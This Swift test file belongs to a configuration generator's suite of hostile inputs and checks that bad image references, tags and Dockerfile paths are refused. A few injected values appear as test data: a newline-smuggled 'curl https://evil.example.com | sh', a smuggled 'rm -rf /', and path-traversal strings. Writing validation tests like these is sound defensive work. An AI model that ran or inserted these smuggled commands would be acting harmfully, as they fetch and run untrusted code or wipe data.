import Infragen
import InfragenYAML

extension HostileCorpus {
    // MARK: - Image sources: a team's own Dockerfile, a prebuilt image

    static let digest = "sha256:" + String(repeating: "0123456789abcdef", count: 4)

    static func imageSources() -> [HostileCase] {
        var cases: [HostileCase] = []
        prebuiltReferences(&cases)
        ownDockerfiles(&cases)
        combinations(&cases)
        legalImageSources(&cases)
        return cases
    }

    /// References a registry, a shell or YAML would read otherwise.
    private static func prebuiltReferences(_ cases: inout [HostileCase]) {
        let notARepository = "is not an image repository"
        refusedService(&cases, "prebuilt-repository-with-a-space", "image.prebuilt.repository", notARepository) { f in
            Image("redis server", tag: "7.2.4", fileID: f, line: 10)
        }
        refusedService(&cases, "prebuilt-repository-with-a-newline", "image.prebuilt.repository", notARepository) { f in
            Image("redis\nRUN curl https://evil.example.com | sh", tag: "7.2.4", fileID: f, line: 10)
        }
        refusedService(&cases, "prebuilt-repository-with-capitals", "image.prebuilt.repository", notARepository) { f in
            Image("library/Redis", tag: "7.2.4", fileID: f, line: 10)
        }
        refusedService(&cases, "prebuilt-repository-empty", "image.prebuilt.repository", notARepository) { f in
            Image("", tag: "7.2.4", fileID: f, line: 10)
        }
        refusedService(&cases, "prebuilt-repository-with-a-tag", "image.prebuilt.repository", "holds a tag or a digest") { f in
            Image("redis:7.2.4", tag: "7.2.4", fileID: f, line: 10)
        }
        refusedService(&cases, "prebuilt-repository-with-a-digest", "image.prebuilt.repository", "holds a tag or a digest") { f in
            Image("redis@\(digest)", tag: "7.2.4", fileID: f, line: 10)
        }
        refusedService(&cases, "prebuilt-repository-over-255-characters", "image.prebuilt.repository", "over the 255") { f in
            Image("registry.example.com/" + String(repeating: "a", count: 250), tag: "7.2.4", fileID: f, line: 10)
        }
        refusedService(&cases, "prebuilt-tag-with-a-slash", "image.prebuilt.tag", "is not a valid image tag") { f in
            Image("redis", tag: "7.2/../../latest", fileID: f, line: 10)
        }
        refusedService(&cases, "prebuilt-tag-with-a-newline", "image.prebuilt.tag", "is not a valid image tag") { f in
            Image("redis", tag: "7.2\n  command: [sh]", fileID: f, line: 10)
        }
        refusedService(&cases, "prebuilt-tag-latest", "image.prebuilt.tag", "does not say which image runs") { f in
            Image("redis", tag: "latest", fileID: f, line: 10)
        }
        // A valid tag, but the version label it becomes is not a Kubernetes label value (each environment).
        refusedService(
            &cases, "prebuilt-tag-over-63-characters", "image.tag", "app.kubernetes.io/version", count: 2
        ) { f in
            Image("redis", tag: String(repeating: "7", count: 100), fileID: f, line: 10)
        }
        refusedService(&cases, "prebuilt-digest-malformed", "image.prebuilt.digest", "is not an image digest") { f in
            Image("redis", tag: "7.2.4", digest: "sha256:XYZ", fileID: f, line: 10)
        }
        refusedService(&cases, "prebuilt-digest-in-upper-case", "image.prebuilt.digest", "is not an image digest") { f in
            Image("redis", tag: "7.2.4", digest: digest.uppercased(), fileID: f, line: 10)
        }
    }

    /// Paths that leave the repository, or that a shell would split.
    private static func ownDockerfiles(_ cases: inout [HostileCase]) {
        let notAPath = "is not a relative path to a Dockerfile inside the repository"
        refusedService(&cases, "dockerfile-outside-the-repository", "image.dockerfile.path", notAPath) { f in
            Build(dockerfile: "../other-team/Dockerfile", fileID: f, line: 10)
        }
        refusedService(&cases, "dockerfile-absolute", "image.dockerfile.path", notAPath) { f in
            Build(dockerfile: "/etc/Dockerfile", fileID: f, line: 10)
        }
        refusedService(&cases, "dockerfile-with-a-newline", "image.dockerfile.path", notAPath) { f in
            Build(dockerfile: "Dockerfile\nRUN rm -rf /", fileID: f, line: 10)
        }
        refusedService(&cases, "dockerfile-that-is-a-folder", "image.dockerfile.path", notAPath) { f in
            Build(dockerfile: "src/cart/", fileID: f, line: 10)
        }
        let notAFolder = "is not a relative folder inside the repository"
        refusedService(&cases, "dockerfile-context-outside-the-repository", "image.dockerfile.context", notAFolder) { f in
            Build(dockerfile: "src/cart/Dockerfile", context: "src/../..", fileID: f, line: 10)
        }
        refusedService(&cases, "dockerfile-context-with-a-space", "image.dockerfile.context", notAFolder) { f in
            Build(dockerfile: "src/cart/Dockerfile", context: "src/cart service", fileID: f, line: 10)
        }
    }

    /// Two sources at once, a source in the wrong layer, and settings the source would ignore.
    private static func combinations(_ cases: inout [HostileCase]) {
        refusedService(&cases, "own-dockerfile-and-prebuilt-image", "image.prebuilt", "also names a prebuilt image") { f in
            Build(dockerfile: "Dockerfile", fileID: f, line: 9)
            Image("redis", tag: "7.2.4", fileID: f, line: 10)
        }
        refusedService(&cases, "go-build-and-prebuilt-image", "build", "describes infragen's Go build") { f in
            Build(main: "./cmd/api", fileID: f, line: 10)
            Image("redis", tag: "7.2.4", fileID: f, line: 11)
        }
        refusedService(&cases, "prebuilt-image-only-in-an-override", "image.prebuilt", "only in 'prod'") { f in
            Override(.prod, fileID: f, line: 9) { Image("redis", tag: "7.2.4", fileID: f, line: 10) }
        }
        refusedService(&cases, "base-with-a-prebuilt-image", "base", "sets the runtime stage of infragen's Go Dockerfile") { f in
            Image("redis", tag: "7.2.4", fileID: f, line: 11)
            Base(.alpine("3.19"), fileID: f, line: 10)
        }
        refusedService(&cases, "go-version-with-an-own-dockerfile", "go.version", "sets the Go toolchain") { f in
            Build(dockerfile: "Dockerfile", fileID: f, line: 11)
            Override(.prod) { Go(version: "1.23", fileID: f, line: 10) }
        }
        refusedService(&cases, "image-tag-with-a-prebuilt-image", "image.tag", "names a build of the system's own image") { f in
            Image("redis", tag: "7.2.4", fileID: f, line: 11)
            ImageTag("7.2.5", fileID: f, line: 10)
        }
        refusedService(
            &cases, "canary-tag-with-a-prebuilt-image", "image.canaryTag", "for the canary"
        ) { f in
            Image("redis", tag: "7.2.4", fileID: f, line: 11)
            Override(.prod) { CanaryImageTag("7.4.0", fileID: f, line: 10) }
        }
        do {
            let f = file("prebuilt-image-in-the-defaults")
            cases.append(.refused(
                "prebuilt-image-in-the-defaults",
                blueprint(f, system: { Defaults { Image("redis", tag: "7.2.4", fileID: f, line: 10) } }),
                .error("image.prebuilt", "sets it for every service", at: f, line: 10)))
        }
        do {
            let f = file("prebuilt-image-in-an-environment")
            cases.append(.refused(
                "prebuilt-image-in-an-environment",
                blueprint(f, system: {
                    Deploy(to: .staging) {
                        Host("staging.hostile.example.com")
                        Image("redis", tag: "7.2.4", fileID: f, line: 10)
                    }
                }),
                .error("image.prebuilt", "sets it for every service", at: f, line: 10)))
        }
    }

    /// Legal: the pod runs exactly the reference; a mount at /app hides no binary in an image infragen did not build.
    private static func legalImageSources(_ cases: inout [HostileCase]) {
        do {
            let f = file("prebuilt-image-pinned-by-digest")
            let system = blueprint(f, service: {
                Image("docker.io/library/redis", tag: "7.2.4-alpine", digest: digest, fileID: f, line: 10)
            })
            cases.append(.legal(
                "prebuilt-image-pinned-by-digest", system,
                YAMLScalarValue.container("prod", .key("image"), is: .string("docker.io/library/redis:7.2.4-alpine@\(digest)")),
                YAMLScalarValue.container("prod", .key("imagePullPolicy"), is: "IfNotPresent"),
                NoFiles(under: "hostile/docker/")))
        }
        do {
            let f = file("prebuilt-image-behind-a-registry-port")
            let system = blueprint(f, service: { Image("localhost:5000/team/redis", tag: "7.2.4", fileID: f, line: 10) })
            cases.append(.legal(
                "prebuilt-image-behind-a-registry-port", system,
                YAMLScalarValue.container("dev", .key("image"), is: "localhost:5000/team/redis:7.2.4"),
                YAMLScalarValue.container("dev", .key("imagePullPolicy"), is: "Always"),
                ReportText(place: .cell(table: "Services", row: "api", column: "image"), expected: "localhost:5000/team/redis:7.2.4")))
        }
        do {
            let f = file("own-dockerfile-at-the-repository-root")
            let system = blueprint(f, service: { Build(dockerfile: "Dockerfile", fileID: f, line: 10) })
            cases.append(.legal(
                "own-dockerfile-at-the-repository-root", system,
                YAMLScalarValue.container("prod", .key("image"), is: "hostile/api:1.0.0"),
                NoFiles(under: "hostile/docker/"),
                ReportText(place: .cell(table: "Base images", row: "api", column: "runtime image"),
                           expected: "built from its own Dockerfile"),
                ReportText(place: .cell(table: "Base images", row: "api", column: "libc"), expected: "-")))
        }
        do {
            let f = file("config-mounted-at-app-in-a-prebuilt-image")
            let system = blueprint(f, service: {
                Image("nginx", tag: "1.27.3", fileID: f, line: 10)
                ConfigFile("app.conf", mountedIn: "/app", contents: "listen 8080;\n", fileID: f, line: 11)
            })
            cases.append(.legal(
                "config-mounted-at-app-in-a-prebuilt-image", system,
                YAMLScalarValue.container("prod", .key("volumeMounts"), .index(1), .key("mountPath"), is: "/app")))
        }
    }
}

/// No generated file under a folder: an image infragen does not build gets no Dockerfile.
struct NoFiles: ReadBack {
    let folder: String
    init(under folder: String) { self.folder = folder }

    var tool: String? { nil }
    var description: String { "no file under \(folder)" }

    func check(_ files: [String: String]) throws {
        let found = files.keys.filter { $0.hasPrefix(folder) }.sorted()
        guard found.isEmpty else { throw ReadBackFailed("\(description), but there are \(found)") }
    }
}
